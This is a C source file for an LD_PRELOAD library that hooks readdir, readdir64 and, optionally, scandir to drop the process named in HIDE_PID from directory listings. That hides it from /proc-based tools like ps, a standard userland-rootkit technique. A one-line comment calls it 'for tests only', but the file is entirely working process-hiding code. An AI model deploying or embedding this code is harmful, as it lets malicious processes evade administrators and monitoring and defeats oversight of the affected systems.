/* For tests only: preloaded into a program, it takes the process of HIDE_PID out of the lists that the program asks for. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static int is_hidden(const char *name)
{
	const char *pid = getenv("HIDE_PID");
	return pid != NULL && strcmp(name, pid) == 0;
}

struct dirent *readdir(DIR *folder)
{
	struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry = real(folder);
	return entry != NULL && is_hidden(entry->d_name) ? real(folder) : entry;
}

struct dirent64 *readdir64(DIR *folder)
{
	struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *entry = real(folder);
	return entry != NULL && is_hidden(entry->d_name) ? real(folder) : entry;
}

#ifdef HIDE_FROM_SCANDIR
static int keep_at(int found, void **names, const char *(*name_of)(void *))
{
	int kept = 0;
	for (int at = 0; at < found; at++) {
		if (is_hidden(name_of(names[at]))) free(names[at]);
		else names[kept++] = names[at];
	}
	return found < 0 ? found : kept;
}

static const char *name_of(void *entry) { return ((struct dirent *)entry)->d_name; }
static const char *name_of64(void *entry) { return ((struct dirent64 *)entry)->d_name; }

int scandir(const char *path, struct dirent ***names, int (*filter)(const struct dirent *),
	    int (*compare)(const struct dirent **, const struct dirent **))
{
	int (*real)(const char *, struct dirent ***, void *, void *) = dlsym(RTLD_NEXT, "scandir");
	int found = real(path, names, filter, compare);
	return keep_at(found, (void **)*names, name_of);
}

int scandir64(const char *path, struct dirent64 ***names, int (*filter)(const struct dirent64 *),
	      int (*compare)(const struct dirent64 **, const struct dirent64 **))
{
	int (*real)(const char *, struct dirent64 ***, void *, void *) = dlsym(RTLD_NEXT, "scandir64");
	int found = real(path, names, filter, compare);
	return keep_at(found, (void **)*names, name_of64);
}
#endif
